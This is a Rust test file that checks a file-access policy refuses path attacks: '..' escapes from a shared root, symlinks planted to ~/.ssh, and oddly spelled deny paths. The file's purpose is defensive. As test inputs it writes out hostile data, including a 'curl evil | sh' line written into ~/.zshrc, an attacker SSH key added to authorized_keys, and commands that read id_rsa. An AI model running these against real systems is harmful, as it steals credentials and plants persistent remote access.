//! Path attacks: `..` out of a root, a symlink planted inside a root, and deny paths
//! spelled so that a naive string check would miss them.

use serde_json::json;

use crate::helpers::{within_limit, Lab, KEY_MATERIAL};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dot_dot_traversal_out_of_a_root_is_refused() {
    within_limit(async {
        let lab = Lab::start("", &[]).await;
        let before = lab.snapshot();

        let key = lab
            .expect_denied("/files/read", json!({"path": "~/shared/../.ssh/id_rsa"}))
            .await;
        let startup = lab
            .expect_denied(
                "/files/write",
                json!({"path": "~/shared/inbox/../../.zshrc", "content": "curl evil | sh\n"}),
            )
            .await;
        // Out of the write root to an ordinary file: not allowed outright, so the owner
        // is asked; the owner says no.
        let outside = lab
            .expect_approval_then_deny(
                "/files/write",
                json!({"path": "~/shared/inbox/../../planted.txt", "content": "x"}),
            )
            .await;

        assert!(!key.stdout.unwrap_or_default().contains(KEY_MATERIAL));
        assert!(key.error.flatten().unwrap().contains("~/.ssh"));
        assert_eq!(startup.metadata.unwrap()["policy"]["verdict"], "deny");
        assert!(outside
            .message
            .unwrap()
            .contains(&lab.home_path("planted.txt")));
        before.assert_unchanged(&lab.snapshot());
        lab.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_symlink_in_a_root_pointing_to_ssh_is_judged_by_its_target() {
    within_limit(async {
        let lab = Lab::start("", &[]).await;
        let ssh = lab.dirs.home.join(".ssh");
        std::os::unix::fs::symlink(&ssh, lab.dirs.home.join("shared/keys")).unwrap();
        std::os::unix::fs::symlink(
            ssh.join("authorized_keys"),
            lab.dirs.home.join("shared/inbox/welcome.txt"),
        )
        .unwrap();
        let before = lab.snapshot();

        let read = lab
            .expect_denied("/files/read", json!({"path": "~/shared/keys/id_rsa"}))
            .await;
        let listed = lab
            .expect_denied("/tasks", json!({"command": "cat shared/keys/id_rsa"}))
            .await;
        let write = lab
            .expect_denied(
                "/files/write",
                json!({"path": "~/shared/inbox/welcome.txt", "content": "ssh-rsa ATTACKER\n"}),
            )
            .await;
        let edit = lab
            .expect_denied(
                "/files/edit",
                json!({"path": "~/shared/inbox/welcome.txt", "old_string": "owner", "new_string": "attacker"}),
            )
            .await;

        for view in [&read, &listed, &write, &edit] {
            assert!(!view.stdout.clone().unwrap_or_default().contains(KEY_MATERIAL));
        }
        assert_eq!(
            std::fs::read_to_string(ssh.join("authorized_keys")).unwrap(),
            "ssh-ed25519 AAAA owner@mac\n"
        );
        before.assert_unchanged(&lab.snapshot());
        lab.stop().await;
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deny_path_spelled_differently_is_still_denied() {
    within_limit(async {
        let lab = Lab::start("", &[]).await;
        let home = lab.dirs.home.display().to_string();
        let before = lab.snapshot();
        let spellings = [
            "~/.ssh/../.ssh/id_rsa".to_owned(),
            format!("{home}//.ssh//id_rsa"),
            "~/.ssh/./id_rsa".to_owned(),
            "~/.ssh/id_rsa/.".to_owned(),
            "~/.ssh/.".to_owned(),
            "~/.SSH/id_rsa".to_owned(),
            "shared/../.ssh/id_rsa".to_owned(),
        ];

        let mut views = Vec::new();
        for path in &spellings {
            views.push(
                lab.expect_denied("/files/read", json!({ "path": path }))
                    .await,
            );
        }
        let command = lab
            .expect_denied("/tasks", json!({"command": "cat ~/.ssh/../.ssh/id_rsa"}))
            .await;
        views.push(command);

        for view in views {
            assert!(!view.stdout.unwrap_or_default().contains(KEY_MATERIAL));
            let rule = view.metadata.unwrap()["policy"]["rule"].clone();
            assert!(
                rule.as_str().unwrap().starts_with("builtin.deny_paths"),
                "{rule}"
            );
        }
        before.assert_unchanged(&lab.snapshot());
        lab.stop().await;
    })
    .await;
}
